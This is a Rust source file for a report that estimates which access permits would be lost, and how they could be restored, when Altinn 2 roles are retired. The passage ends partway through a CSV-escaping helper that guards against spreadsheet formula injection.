//! The Altinn 2 cut-off report (`delegraph a2-impact`): who would lose which permit on
//! which service when Altinn 2 roles are retired, what each permit rests on today, and
//! what would restore it — the packages the same policy names, and who at the party may
//! grant one of them.
//!
//! The cut-off (`retire_a2_roles`) removes every record whose role is an Altinn 2 role:
//! migrated assignments, records inherited or repeated from them, client delegations
//! built on them, and RoleMap records that map to them; and Altinn 2 tokens match
//! nobody. So instead of simulating over the whole world, the report visits only the
//! (subject, party) pairs where some Altinn 2 role is held, and compares the permits of
//! their records with and without those records. `tests/it` checks it against
//! `simulate` of `retire_a2_roles`, on a scenario and on generated worlds.
//!
//! # Why it is fast
//!
//! On a Norway-scale world most pairs are a person acting for themself: `privatperson`
//! maps (RoleMap) to a dozen Altinn 2 roles, so every living person is a pair, and they
//! all hold the same roles and packages. The policy part of a decision depends only on
//! the roles and packages held (for an XACML policy: the attributes the information
//! point adds, which are a function of those two sets), so the report keys *classes* by
//! (roles, packages) — projected onto those the relevant policies name — and evaluates
//! each (resource, action) slot once per class, as a bitset. A pair is then two class
//! lookups and one count; only pairs with resource grants, resources in access-list
//! mode, or lost permits to list in full are evaluated slot by slot. Whether a lost
//! permit is restorable depends on the party (who there may grant a package the policy
//! names), so the set of restoring packages someone at the party may grant is computed
//! once per party, and only when the pair lost a permit that a package could restore at
//! a party of that kind. The pairs are split into chunks that the cores take in turn.

use std::collections::BTreeSet;
use std::fmt::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;

use rustc_hash::FxHashMap;
use serde::Serialize;

use crate::catalog::{PackageSet, RoleSet};
use crate::graph::{Edge, NodeId, Token};
use crate::model::{EntityType, PartyKind};
use crate::pdp::CompiledPolicy;
use crate::pdp::records as pdp_records;
use crate::pdp::response::Decision;
use crate::resolve::{self, Record};
use crate::world::World;

/// Which resources to report on.
#[derive(Debug, Clone, Default)]
pub struct Filter {
    /// Only resources of this service owner.
    pub owner: Option<String>,
    /// Only this resource.
    pub resource: Option<String>,
}

impl Filter {
    /// Refuses a filter naming a resource or service owner the world does not have, so
    /// that a typo does not read as "nothing lost".
    pub fn validate(&self, w: &World) -> crate::model::Result<()> {
        if let Some(r) = &self.resource
            && w.graph.resource_node(r).is_none()
        {
            return Err(crate::model::Error::unknown_resource(r));
        }
        if let Some(o) = &self.owner {
            let owners: std::collections::BTreeSet<&str> = w
                .graph
                .resources()
                .filter_map(|(_, r)| r.owner.as_deref())
                .collect();
            if !owners.contains(o.as_str()) {
                let hint = crate::model::hint(o, owners.iter().copied());
                return Err(crate::model::Error::invalid(format!(
                    "no resource has service owner `{o}`{hint}"
                )));
            }
        }
        Ok(())
    }
}

/// How many lost permits to hand out in full (each costs its explanations and its
/// grantors; the counts are always complete).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Listing {
    /// Every lost permit, in no particular order.
    All,
    /// The first N lost permits in (subject, party) order.
    First(usize),
}

/// One permit that the cut-off would take away.
#[derive(Debug, Clone, Serialize, PartialEq, Eq, PartialOrd, Ord)]
pub struct LostPermit {
    pub owner: String,
    pub resource: String,
    pub subject: String,
    pub party: String,
    pub action: String,
    /// The derivations of the Altinn 2 roles the permit rests on today.
    pub rests_on: Vec<String>,
    /// Packages the same policy names for this action: holding one restores the permit.
    pub restoring_packages: Vec<String>,
    /// Who at the party may grant one of those packages (§5).
    pub grantors: Vec<String>,
}

/// Per resource: permits (among the pairs that hold an Altinn 2 role) kept and lost.
#[derive(Debug, Clone, Serialize, Default)]
pub struct ResourceSummary {
    pub owner: String,
    pub resource: String,
    pub kept: usize,
    pub lost: usize,
    /// Lost permits that one grant of a named package by a known grantor would restore.
    pub restorable_by_one_grant: usize,
}

#[derive(Debug, Clone, Serialize, Default)]
pub struct Report {
    pub pairs_examined: usize,
    /// How many permits would be lost (also when `lost` is not kept).
    pub lost_count: usize,
    pub resources: Vec<ResourceSummary>,
    pub lost: Vec<LostPermit>,
}

impl Report {
    pub fn total_lost(&self) -> usize {
        self.lost_count
    }
    pub fn total_kept(&self) -> usize {
        self.resources.iter().map(|r| r.kept).sum()
    }
    pub fn total_restorable(&self) -> usize {
        self.resources.iter().map(|r| r.restorable_by_one_grant).sum()
    }
}

// ----------------------------------------------------------------------------------
// What to examine: pairs, resources, slots

/// The pairs to examine, and what Altinn 2 records can carry besides their roles.
struct Candidates {
    /// (subject, party), sorted, without duplicates.
    pairs: Vec<(NodeId, NodeId)>,
    /// Packages an Altinn 2 record may carry (RolePackage rows of Altinn 2 roles,
    /// packages forwarded by client delegations built on Altinn 2 assignments).
    packages: PackageSet,
    /// Resources granted on Altinn 2 assignments or their client delegations.
    granted: BTreeSet<NodeId>,
}

/// The (subject, party) pairs where some Altinn 2 role may be held.
fn candidates(w: &World) -> Candidates {
    let c = w.catalog;
    let g = &w.graph;
    let gives_a2 = |r| c.is_altinn2_role(r) || c.role_map_of(r).iter().any(|m| c.is_altinn2_role(*m));
    let mut packages = PackageSet::EMPTY;
    for (i, _) in c.roles.iter().enumerate() {
        let r = crate::model::RoleId(i as u16);
        if c.is_altinn2_role(r) {
            packages.union_with(&c.role_packages_any_unit_type(r));
        }
    }
    let mut granted = BTreeSet::new();
    let mut pairs = Vec::new();
    let add = |pairs: &mut Vec<(NodeId, NodeId)>, subjects: &[NodeId], from: NodeId, owner_rule: bool| {
        let mut parties = vec![from];
        parties.extend(g.sub_units(from));
        if owner_rule {
            parties.extend(resolve::enk_owners(w, from));
        }
        for s in subjects {
            for p in &parties {
                pairs.push((*s, *p));
            }
        }
    };
    let privatperson_a2 = gives_a2(c.known.privatperson);
    // On a background thread this whole walk and its sort give way to readers too (a
    // step each is less than a clock read, so a `Pacer`).
    let mut pacer = crate::background::Pacer::new();
    for (n, p) in g.parties() {
        pacer.step();
        // Persons hold privatperson for themselves, which RoleMap maps to Altinn 2 roles.
        if p.is_living_person() && privatperson_a2 {
            add(&mut pairs, &[n], n, false);
        }
        for (_, to, e) in g.outgoing(n) {
            pacer.step();
            let (role, is_delegation) = match e {
                Edge::Assignment(a) => (a.role, false),
                Edge::Delegation(d) => (d.role, true),
                Edge::MainUnit(_) => continue,
            };
            if !gives_a2(role) {
                continue;
            }
            if c.is_altinn2_role(role) {
                match e {
                    Edge::Assignment(a) => granted.extend(a.resources.keys().copied()),
                    Edge::Delegation(d) => {
                        packages.union_with(&d.packages);
                        granted.extend(d.resources.keys().copied());
                    }
                    Edge::MainUnit(_) => {}
                }
            }
            let mut subjects = vec![to];
            if !is_delegation {
                for (_, holder, e2) in g.outgoing(to) {
                    if let Edge::Assignment(k) = e2
                        && c.is_key_role(k.role)
                    {
                        subjects.push(holder);
                    }
                }
            }
            add(&mut pairs, &subjects, n, c.is_owner_rule_role(role));
        }
    }
    pairs.sort_unstable_by(|a, b| {
        pacer.step();
        a.cmp(b)
    });
    pairs.dedup();
    Candidates {
        pairs,
        packages,
        granted,
    }
}

/// A resource the report covers.
struct Res {
    id: String,
    owner: String,
}

/// One (resource, action) whose permits the report counts.
struct Slot {
    res: usize,
    action: String,
    /// Roles the rules (the Permit rules, for an XACML policy) for this action name.
    roles: RoleSet,
    /// Packages they name: holding one gives (for an XACML policy: may give) the permit.
    restoring: PackageSet,
    /// The resource's XACML policy: then the decision point decides, not `roles` and
    /// `restoring`.
    policy: Option<Arc<CompiledPolicy>>,
}

/// Everything fixed before the pairs are visited.
struct Plan {
    resources: Vec<Res>,
    slots: Vec<Slot>,
    /// u64 words of a bitset over the slots.
    words: usize,
    /// Roles and packages that can change a decision: class keys are projected on them.
    role_mask: RoleSet,
    package_mask: PackageSet,
    /// Slots whose resource is in access-list mode.
    list_slots: Vec<usize>,
    /// Slots by resource node, for the grant fallback.
    slots_of: FxHashMap<NodeId, Vec<usize>>,
    /// Assignable packages an organisation / a person can give (§5: entity type).
    org_assignable: PackageSet,
    person_assignable: PackageSet,
    /// Every package some slot names.
    all_restoring: PackageSet,
}

fn plan(w: &World, filter: &Filter, cand: &Candidates) -> Plan {
    let c = w.catalog;
    let g = &w.graph;
    let mut a2_roles = RoleSet::EMPTY;
    for (i, _) in c.roles.iter().enumerate() {
        let r = crate::model::RoleId(i as u16);
        if c.is_altinn2_role(r) {
            a2_roles.insert(r);
        }
    }
    let mut p = Plan {
        resources: Vec::new(),
        slots: Vec::new(),
        words: 0,
        role_mask: RoleSet::EMPTY,
        package_mask: PackageSet::EMPTY,
        list_slots: Vec::new(),
        slots_of: FxHashMap::default(),
        org_assignable: PackageSet::EMPTY,
        person_assignable: PackageSet::EMPTY,
        all_restoring: PackageSet::EMPTY,
    };
    let mut any_policy = false;
    for (n, r) in g.resources() {
        crate::background::pace();
        if filter.resource.as_ref().is_some_and(|f| *f != r.id)
            || filter.owner.as_ref().is_some_and(|o| r.owner.as_ref() != Some(o))
            // A consent resource is decided by consents, never by roles (§9.5).
            || crate::decide::is_consent_resource(w, n)
        {
            continue;
        }
        let policy = w.pdp.policies.get(&r.id).cloned();
        // Whether an Altinn 2 record can change a decision on this resource: its policy
        // names an Altinn 2 role or a package such a record carries, or such a record
        // carries a grant of it.
        let (named_roles, named_packages) = match &policy {
            Some(pol) => pdp_records::mentioned_tokens(c, pol),
            None => {
                let (mut roles, mut packages) = (RoleSet::EMPTY, PackageSet::EMPTY);
                for t in r.rules.iter().flat_map(|rule| rule.any_of.iter()) {
                    match t {
                        Token::Role(x) => roles.insert(*x),
                        Token::Package(x) => packages.insert(*x),
                    }
                }
                (roles, packages)
            }
        };
        if !(named_roles.intersects(&a2_roles)
            || named_packages.intersects(&cand.packages)
            || cand.granted.contains(&n))
        {
            continue;
        }
        let ri = p.resources.len();
        p.resources.push(Res {
            id: r.id.clone(),
            owner: r.owner.clone().unwrap_or_default(),
        });
        let actions: BTreeSet<String> = match &policy {
            Some(pol) => pdp_records::policy_actions(pol),
            None => r
                .rules
                .iter()
                .flat_map(|rule| rule.actions.iter().cloned())
                .collect(),
        };
        // A resource in access-list mode: a permit depends on the party too.
        let lists = crate::decide::in_list_mode(w, &r.id);
        for action in actions {
            let (roles, restoring) = match &policy {
                Some(pol) => pdp_records::permit_rule_tokens(c, pol, &action),
                None => {
                    let (mut roles, mut packages) = (RoleSet::EMPTY, PackageSet::EMPTY);
                    for t in r
                        .rules
                        .iter()
                        .filter(|rule| rule.actions.contains(&action))
                        .flat_map(|rule| rule.any_of.iter())
                    {
                        match t {
                            Token::Role(x) => roles.insert(*x),
                            Token::Package(x) => packages.insert(*x),
                        }
                    }
                    (roles, packages)
                }
            };
            let si = p.slots.len();
            if lists {
                p.list_slots.push(si);
            }
            p.slots_of.entry(n).or_default().push(si);
            p.role_mask = union_roles(&p.role_mask, &roles);
            p.package_mask.union_with(&restoring);
            p.all_restoring.union_with(&restoring);
            any_policy |= policy.is_some();
            p.slots.push(Slot {
                res: ri,
                action,
                roles,
                restoring,
                policy: policy.clone(),
            });
        }
    }
    if any_policy {
        // An XACML policy may read any role or package (conditions, Deny rules): no
        // projection.
        p.role_mask = RoleSet::EMPTY;
        p.package_mask = PackageSet::EMPTY;
        for (i, _) in c.roles.iter().enumerate() {
            p.role_mask.insert(crate::model::RoleId(i as u16));
        }
        for (i, _) in c.packages.iter().enumerate() {
            p.package_mask.insert(crate::model::PackageId(i as u16));
        }
    }
    for (i, pkg) in c.packages.iter().enumerate() {
        let id = crate::model::PackageId(i as u16);
        if pkg.is_assignable {
            match pkg.entity_type {
                EntityType::Organisation => p.org_assignable.insert(id),
                EntityType::Person => p.person_assignable.insert(id),
            }
        }
    }
    p.words = p.slots.len().div_ceil(64);
    p
}

fn union_roles(a: &RoleSet, b: &RoleSet) -> RoleSet {
    let mut out = *a;
    out.extend(b.iter());
    out
}

// ----------------------------------------------------------------------------------
// Visiting the pairs

type Bits = Vec<u64>;

fn bit(b: &[u64], i: usize) -> bool {
    b.get(i / 64).is_some_and(|w| w & (1 << (i % 64)) != 0)
}

fn set_bit(b: &mut [u64], i: usize, on: bool) {
    if let Some(w) = b.get_mut(i / 64) {
        if on {
            *w |= 1 << (i % 64);
        } else {
            *w &= !(1 << (i % 64));
        }
    }
}

/// The policy part of the decisions of one (roles, packages) class over every slot.
struct Class {
    /// The policy permits.
    permit: Bits,
    /// The policy leaves it to the grants (NotApplicable; for `rules`: not permitted).
    open: Bits,
}

/// Per-resource counts.
#[derive(Default, Clone)]
struct Tally {
    kept: usize,
    lost: usize,
    restorable: usize,
}

/// What one thread accumulates.
struct Worker<'a> {
    w: &'a World,
    plan: &'a Plan,
    class_ix: FxHashMap<(RoleSet, PackageSet), u32>,
    classes: Vec<Class>,
    /// (class with, class without) → packages that would restore one of its lost permits.
    lost_restoring: FxHashMap<(u32, u32), PackageSet>,
    /// Distinct grantable sets, interned.
    grantable_ix: FxHashMap<PackageSet, u32>,
    grantable_sets: Vec<PackageSet>,
    /// (class with, class without, grantable set) → pairs.
    counts: FxHashMap<(u32, u32, u32), usize>,
    /// Counts of the pairs evaluated slot by slot.
    tally: Vec<Tally>,
    lost_count: usize,
    /// Lost permits in full: sent (listing all) or kept with their chunk (the first N).
    sender: Option<mpsc::SyncSender<LostPermit>>,
    first: Option<usize>,
    listed: Vec<(usize, LostPermit)>,
    /// Per party, for listing: candidates and the restoring packages each may grant.
    grantors: FxHashMap<NodeId, Vec<(NodeId, PackageSet)>>,
}

impl<'a> Worker<'a> {
    fn new(
        w: &'a World,
        plan: &'a Plan,
        sender: Option<mpsc::SyncSender<LostPermit>>,
        first: Option<usize>,
    ) -> Self {
        let mut grantable_ix = FxHashMap::default();
        grantable_ix.insert(PackageSet::EMPTY, 0);
        Worker {
            w,
            plan,
            class_ix: FxHashMap::default(),
            classes: Vec::new(),
            lost_restoring: FxHashMap::default(),
            grantable_ix,
            grantable_sets: vec![PackageSet::EMPTY],
            counts: FxHashMap::default(),
            tally: vec![Tally::default(); plan.resources.len()],
            lost_count: 0,
            sender,
            first,
            listed: Vec::new(),
            grantors: FxHashMap::default(),
        }
    }

    fn listing(&self) -> bool {
        self.sender.is_some() || self.first.is_some_and(|n| self.listed.len() < n)
    }

    /// The class of these roles and packages; `recs` (records holding exactly them)
    /// are consulted only when the class is new.
    fn class(&mut self, roles: RoleSet, packages: PackageSet, recs: impl FnOnce() -> Vec<Record>) -> u32 {
        let key = (
            roles.intersection(&self.plan.role_mask),
            packages.intersection(&self.plan.package_mask),
        );
        if let Some(i) = self.class_ix.get(&key) {
            return *i;
        }
        let recs = recs();
        let mut cl = Class {
            permit: vec![0; self.plan.words],
            open: vec![0; self.plan.words],
        };
        for (i, s) in self.plan.slots.iter().enumerate() {
            let res = &self.plan.resources[s.res].id;
            // The policy step of the decision order, once per class: an XACML policy
            // over the records, a rule list over the roles and packages held.
            let d = match &s.policy {
                Some(pol) => pdp_records::policy_decision(self.w, res, pol, &recs, &s.action),
                None => match crate::decide::form(self.w, res) {
                    crate::decide::Form::Rules(r) => crate::decide::rules_decision(
                        self.w,
                        r,
                        std::slice::from_ref(&s.action),
                        &roles,
                        &packages,
                    ),
                    _ => Decision::NotApplicable,
                },
            };
            let (permit, open) = (d == Decision::Permit, d == Decision::NotApplicable);
            set_bit(&mut cl.permit, i, permit);
            set_bit(&mut cl.open, i, open);
        }
        let i = self.classes.len() as u32;
        self.classes.push(cl);
        self.class_ix.insert(key, i);
        i
    }

    /// Packages someone at `f` may grant among those any slot names (§5, with the
    /// package's entity type and `is_assignable`).
    fn assignable_at(&self, f: NodeId) -> PackageSet {
        match self.w.graph.party(f).map(|p| p.kind) {
            Some(PartyKind::Organisation) => self.plan.org_assignable,
            Some(PartyKind::Person) => self.plan.person_assignable,
            _ => PackageSet::EMPTY,
        }
        .intersection(&self.plan.all_restoring)
    }

    /// The restoring packages someone at `f` may grant.
    fn grantable_at(&self, f: NodeId) -> PackageSet {
        resolve::delegable_at(self.w, f).intersection(&self.assignable_at(f))
    }

    fn grantable_id(&mut self, set: PackageSet) -> u32 {
        let next = self.grantable_sets.len() as u32;
        let id = *self.grantable_ix.entry(set).or_insert(next);
        if id == next {
            self.grantable_sets.push(set);
        }
        id
    }

    /// The packages that would restore some permit lost between these two classes.
    fn restoring_of(&mut self, a: u32, b: u32) -> PackageSet {
        if let Some(p) = self.lost_restoring.get(&(a, b)) {
            return *p;
        }
        let mut out = PackageSet::EMPTY;
        if let (Some(ca), Some(cb)) = (self.classes.get(a as usize), self.classes.get(b as usize)) {
            for (i, s) in self.plan.slots.iter().enumerate() {
                if bit(&ca.permit, i) && !bit(&cb.permit, i) {
                    out.union_with(&s.restoring);
                }
            }
        }
        self.lost_restoring.insert((a, b), out);
        out
    }

    fn visit(&mut self, chunk: usize, x: NodeId, f: NodeId) {
        let w = self.w;
        let c = w.catalog;
        let recs = resolve::records(w, x, Some(f));
        if !recs.iter().any(|r| c.is_altinn2_role(r.role)) {
            return;
        }
        let (mut roles_all, mut pk_all, mut roles_after, mut pk_after) = (
            RoleSet::EMPTY,
            PackageSet::EMPTY,
            RoleSet::EMPTY,
            PackageSet::EMPTY,
        );
        let mut has_grants = false;
        for r in &recs {
            let a2 = c.is_altinn2_role(r.role);
            if let Some(role) = r.held_role() {
                roles_all.insert(role);
                if !a2 {
                    roles_after.insert(role);
                }
            }
            pk_all.union_with(&r.packages);
            if !a2 {
                pk_after.union_with(&r.packages);
            }
            has_grants |= resolve::resource_grants(w, r)
                .is_some_and(|m| m.keys().any(|k| self.plan.slots_of.contains_key(k)));
        }
        let a = self.class(roles_all, pk_all, || recs.clone());
        let b = self.class(roles_after, pk_after, || {
            recs.iter()
                .filter(|r| !c.is_altinn2_role(r.role))
                .cloned()
                .collect()
        });
        if !has_grants && self.plan.list_slots.is_empty() && !self.listing() {
            let eligible = self.restoring_of(a, b).intersection(&self.assignable_at(f));
            let g = if eligible.is_empty() {
                0
            } else {
                let set = self.grantable_at(f).intersection(&eligible);
                self.grantable_id(set)
            };
            *self.counts.entry((a, b, g)).or_default() += 1;
            return;
        }
        self.visit_slots(chunk, x, f, &recs, a, b);
    }

    /// A pair evaluated slot by slot: grants, access lists, lost permits in full.
    fn visit_slots(&mut self, chunk: usize, x: NodeId, f: NodeId, recs: &[Record], a: u32, b: u32) {
        let w = self.w;
        let c = w.catalog;
        let plan = self.plan;
        let (Some(ca), Some(cb)) = (self.classes.get(a as usize), self.classes.get(b as usize)) else {
            return;
        };
        // Which slots the grants cover, with and without the Altinn 2 records.
        let mut granted_all: Bits = vec![0; plan.words];
        let mut granted_after: Bits = vec![0; plan.words];
        for r in recs {
            let a2 = c.is_altinn2_role(r.role);
            for (res, acts) in resolve::resource_grants(w, r).into_iter().flatten() {
                for s in plan.slots_of.get(res).into_iter().flatten() {
                    let Some(slot) = plan.slots.get(*s) else { continue };
                    if acts.contains(&slot.action) {
                        set_bit(&mut granted_all, *s, true);
                        if !a2 {
                            set_bit(&mut granted_after, *s, true);
                        }
                    }
                }
            }
        }
        let mut listed: Bits = vec![0; plan.words];
        for s in &plan.list_slots {
            set_bit(&mut listed, *s, true);
        }
        // Each slot through the decision order (crate::decide), with the policy's answer
        // of the class.
        let class_decision = |cl: &Class, i: usize| {
            if bit(&cl.permit, i) {
                Decision::Permit
            } else if bit(&cl.open, i) {
                Decision::NotApplicable
            } else {
                Decision::Deny
            }
        };
        let mut all: Bits = vec![0; plan.words];
        let mut after: Bits = vec![0; plan.words];
        for (i, slot) in plan.slots.iter().enumerate() {
            let res = &plan.resources[slot.res].id;
            let actions = [slot.action.clone()];
            let lists = || !bit(&listed, i) || crate::decide::lists_allow(w, res, Some(f), &actions);
            let d_all = crate::decide::order_decision(class_decision(ca, i), || bit(&granted_all, i), lists);
            let d_after =
                crate::decide::order_decision(class_decision(cb, i), || bit(&granted_after, i), lists);
            set_bit(&mut all, i, d_all == Decision::Permit);
            set_bit(&mut after, i, d_after == Decision::Permit);
        }
        let mut grantable = None;
        for (i, slot) in plan.slots.iter().enumerate() {
            if !bit(&all, i) {
                continue;
            }
            let Some(t) = self.tally.get_mut(slot.res) else {
                continue;
            };
            if bit(&after, i) {
                t.kept += 1;
                continue;
            }
            t.lost += 1;
            self.lost_count += 1;
            let eligible = slot.restoring.intersection(&self.assignable_at(f));
            if !eligible.is_empty() {
                let g = *grantable.get_or_insert_with(|| self.grantable_at(f));
                if g.intersects(&eligible)
                    && let Some(t) = self.tally.get_mut(slot.res)
                {
                    t.restorable += 1;
                }
            }
            if self.listing() {
                let l = self.lost_permit(x, f, recs, slot);
                match &self.sender {
                    Some(tx) => {
                        let _ = tx.send(l);
                    }
                    None => self.listed.push((chunk, l)),
                }
            }
        }
    }

    fn lost_permit(&mut self, x: NodeId, f: NodeId, recs: &[Record], slot: &Slot) -> LostPermit {
        let w = self.w;
        let c = w.catalog;
        let g = &w.graph;
        let rests_on = recs
            .iter()
            .filter(|r| c.is_altinn2_role(r.role) && slot.roles.contains(r.role))
            .map(|r| resolve::describe(w, x, r))
            .collect();
        let wanted = self.assignable_at(f);
        let candidates = self.grantors.entry(f).or_insert_with(|| {
            resolve::candidate_subjects(w, f)
                .into_iter()
                .map(|u| (u, resolve::held_delegable_packages(w, u, f).intersection(&wanted)))
                .filter(|(_, p)| !p.is_empty())
                .collect()
        });
        let grantors: BTreeSet<String> = candidates
            .iter()
            .filter(|(_, p)| p.intersects(&slot.restoring))
            .map(|(u, _)| g.ext_id(*u).to_string())
            .collect();
        let res = &self.plan.resources[slot.res];
        LostPermit {
            owner: res.owner.clone(),
            resource: res.id.clone(),
            subject: g.ext_id(x).to_string(),
            party: g.ext_id(f).to_string(),
            action: slot.action.clone(),
            rests_on,
            restoring_packages: slot.restoring.iter().map(|p| c.package(p).code.clone()).collect(),
            grantors: grantors.into_iter().collect(),
        }
    }

    /// Adds this worker's counts to the per-resource summaries.
    fn finish(self, summaries: &mut [ResourceSummary]) -> (usize, Vec<(usize, LostPermit)>) {
        let plan = self.plan;
        let mut lost_count = self.lost_count;
        for (s, t) in summaries.iter_mut().zip(&self.tally) {
            s.kept += t.kept;
            s.lost += t.lost;
            s.restorable_by_one_grant += t.restorable;
        }
        for ((a, b, g), m) in &self.counts {
            let (Some(ca), Some(cb), Some(gs)) = (
                self.classes.get(*a as usize),
                self.classes.get(*b as usize),
                self.grantable_sets.get(*g as usize),
            ) else {
                continue;
            };
            for (wi, (pa, pb)) in ca.permit.iter().zip(&cb.permit).enumerate() {
                let mut word = *pa;
                while word != 0 {
                    let i = wi * 64 + word.trailing_zeros() as usize;
                    word &= word - 1;
                    let Some(slot) = plan.slots.get(i) else { continue };
                    let Some(s) = summaries.get_mut(slot.res) else {
                        continue;
                    };
                    if pb & (1 << (i % 64)) != 0 {
                        s.kept += m;
                    } else {
                        s.lost += m;
                        lost_count += m;
                        if gs.intersects(&slot.restoring) {
                            s.restorable_by_one_grant += m;
                        }
                    }
                }
            }
        }
        (lost_count, self.listed)
    }
}

/// Builds the report with every lost permit, sorted; `progress(done, total)` is called
/// as pairs are examined.
pub fn report(w: &World, filter: &Filter, progress: impl FnMut(usize, usize)) -> Report {
    let mut lost = Vec::new();
    let mut r = report_streaming(w, filter, Listing::All, progress, |l| lost.push(l));
    lost.sort();
    r.lost = lost;
    r
}

/// Pairs per unit of work handed to a thread.
const CHUNK: usize = 4096;

/// Builds the report, handing lost permits to `sink` as they are found instead of
/// keeping them (a Norway-scale cut-off loses far more permits than are worth holding in
/// memory): every one of them with [`Listing::All`], or the first N in (subject, party)
/// order. The returned report has the totals and per-resource counts, and an empty
/// `lost` list. `progress` and `sink` run on the calling thread; the pairs are examined
/// on every core.
pub fn report_streaming(
    w: &World,
    filter: &Filter,
    listing: Listing,
    progress: impl FnMut(usize, usize),
    sink: impl FnMut(LostPermit),
) -> Report {
    // Without a cancel flag or a deadline the report always finishes.
    report_with(w, filter, listing, &RunOptions::default(), progress, sink).unwrap_or_default()
}

/// How a report runs: on how many threads, at which priority, until when.
#[derive(Debug, Clone, Default)]
pub struct RunOptions {
    /// Most threads examining pairs (default: the cores, at most 8).
    pub threads: Option<usize>,
    /// Whether those threads lower their own priority ([`crate::background`]).
    pub low_priority: bool,
    /// Set by someone else to stop the report.
    pub cancel: Option<crate::background::Cancel>,
    /// Past this instant the report stops.
    pub deadline: Option<std::time::Instant>,
}

/// Why a report stopped before its end.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum Stopped {
    #[error("the report was cancelled")]
    Cancelled,
    #[error("the report ran past its time budget")]
    OverTime,
}

impl RunOptions {
    fn stop(&self) -> Option<Stopped> {
        if self.cancel.as_ref().is_some_and(|c| c.load(Ordering::Relaxed)) {
            return Some(Stopped::Cancelled);
        }
        if self.deadline.is_some_and(|d| std::time::Instant::now() >= d) {
            return Some(Stopped::OverTime);
        }
        None
    }
}

/// [`report_streaming`] with [`RunOptions`]: the threads check the cancel flag and the
/// deadline between chunks of pairs, and the report then ends with [`Stopped`] (the
/// permits already handed to `sink` stay handed).
pub fn report_with(
    w: &World,
    filter: &Filter,
    listing: Listing,
    opts: &RunOptions,
    mut progress: impl FnMut(usize, usize),
    mut sink: impl FnMut(LostPermit),
) -> Result<Report, Stopped> {
    if let Some(s) = opts.stop() {
        return Err(s);
    }
    let cand = candidates(w);
    let plan = plan(w, filter, &cand);
    let mut summaries: Vec<ResourceSummary> = plan
        .resources
        .iter()
        .map(|r| ResourceSummary {
            owner: r.owner.clone(),
            resource: r.id.clone(),
            ..Default::default()
        })
        .collect();
    let mut out = Report::default();
    if plan.slots.is_empty() || w.a2_retired {
        out.resources = summaries;
        return Ok(out);
    }
    if let Some(s) = opts.stop() {
        return Err(s);
    }
    let pairs = &cand.pairs;
    let total = pairs.len();
    out.pairs_examined = total;
    let threads = opts
        .threads
        .unwrap_or_else(|| std::thread::available_parallelism().map_or(1, |n| n.get()))
        .clamp(1, 8)
        .min(total.div_ceil(CHUNK).max(1));
    let stopped = std::sync::Mutex::new(None);
    let next_chunk = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);
    let (tx, rx) = mpsc::sync_channel::<LostPermit>(4096);
    let first = match listing {
        Listing::All => None,
        Listing::First(n) => Some(n),
    };
    let mut listed = Vec::new();
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..threads)
            .map(|_| {
                let sender = (listing == Listing::All).then(|| tx.clone());
                let (plan, next_chunk, done, stopped) = (&plan, &next_chunk, &done, &stopped);
                scope.spawn(move || {
                    if opts.low_priority {
                        crate::background::lower_priority();
                    }
                    let mut worker = Worker::new(w, plan, sender, first);
                    loop {
                        if let Some(s) = opts.stop() {
                            if let Ok(mut g) = stopped.lock() {
                                *g = Some(s);
                            }
                            break;
                        }
                        let k = next_chunk.fetch_add(1, Ordering::Relaxed);
                        let Some(chunk) = pairs.chunks(CHUNK).nth(k) else {
                            break;
                        };
                        for (x, f) in chunk {
                            crate::background::pace();
                            worker.visit(k, *x, *f);
                        }
                        done.fetch_add(chunk.len(), Ordering::Relaxed);
                    }
                    // Drops the sender: the receiver below ends when every worker has.
                    worker.sender = None;
                    worker
                })
            })
            .collect();
        drop(tx);
        let tick = std::time::Duration::from_millis(100);
        let mut last = std::time::Instant::now();
        progress(0, total);
        loop {
            match rx.recv_timeout(tick) {
                Ok(l) => sink(l),
                Err(mpsc::RecvTimeoutError::Timeout) => {}
                Err(mpsc::RecvTimeoutError::Disconnected) => {
                    if handles.iter().all(|h| h.is_finished()) {
                        break;
                    }
                    std::thread::sleep(tick);
                }
            }
            if last.elapsed() >= tick {
                progress(done.load(Ordering::Relaxed), total);
                last = std::time::Instant::now();
            }
        }
        for h in handles {
            // A worker that panicked leaves its pairs uncounted; the panic is resumed.
            match h.join() {
                Ok(worker) => {
                    let (n, l) = worker.finish(&mut summaries);
                    out.lost_count += n;
                    listed.extend(l);
                }
                Err(e) => std::panic::resume_unwind(e),
            }
        }
    });
    if let Some(s) = stopped.into_inner().ok().flatten() {
        return Err(s);
    }
    progress(total, total);
    if let Some(n) = first {
        // Each worker listed its first N in the order of its chunks, so the first N of
        // all are among them.
        listed.sort_by_key(|(chunk, _)| *chunk);
        for (_, l) in listed.into_iter().take(n) {
            sink(l);
        }
    }
    out.resources = summaries;
    Ok(out)
}

/// The report as a readable table, totals first.
pub fn to_table(r: &Report) -> String {
    let mut s = String::new();
    let _ = writeln!(
        s,
        "Altinn 2 cut-off: {} permit(s) lost, {} kept, {} restorable by one grant ({} subject/party pairs examined)",
        r.total_lost(),
        r.total_kept(),
        r.total_restorable(),
        r.pairs_examined
    );
    let _ = writeln!(s);
    let _ = writeln!(
        s,
        "{:<16} {:<36} {:>8} {:>8} {:>12}",
        "owner", "resource", "kept", "lost", "restorable"
    );
    for x in &r.resources {
        let _ = writeln!(
            s,
            "{:<16} {:<36} {:>8} {:>8} {:>12}",
            x.owner, x.resource, x.kept, x.lost, x.restorable_by_one_grant
        );
    }
    if !r.lost.is_empty() {
        let _ = writeln!(s);
        let _ = writeln!(
            s,
            "lost permits (subject for party: resource/action — restore with; grantors):"
        );
        for l in &r.lost {
            let _ = writeln!(
                s,
                "  {} for {}: {}/{} — restore with {}; grantors {}",
                l.subject,
                l.party,
                l.resource,
                l.action,
                if l.restoring_packages.is_empty() {
                    "(no package in the policy)".to_string()
                } else {
                    l.restoring_packages.join(" or ")
                },
                if l.grantors.is_empty() {
                    "(none)".to_string()
                } else {
                    l.grantors.join(", ")
                }
            );
            for p in &l.rests_on {
                let _ = writeln!(s, "      rests on {p}");
            }
        }
    }
    s
}

/// One CSV field, quoted when it must be. A field that a spreadsheet would read as a
/// formula (it starts with `=`, `+`, `-` or `@`: an id set by an import can) gets a
/// leading `'`, which spreadsheets show as text (OWASP's advice on CSV injection).
fn csv_field(v: &str) -> String {
    let v = if v.starts_with(['=', '+', '-', '@']) {
        format!("'{v}")
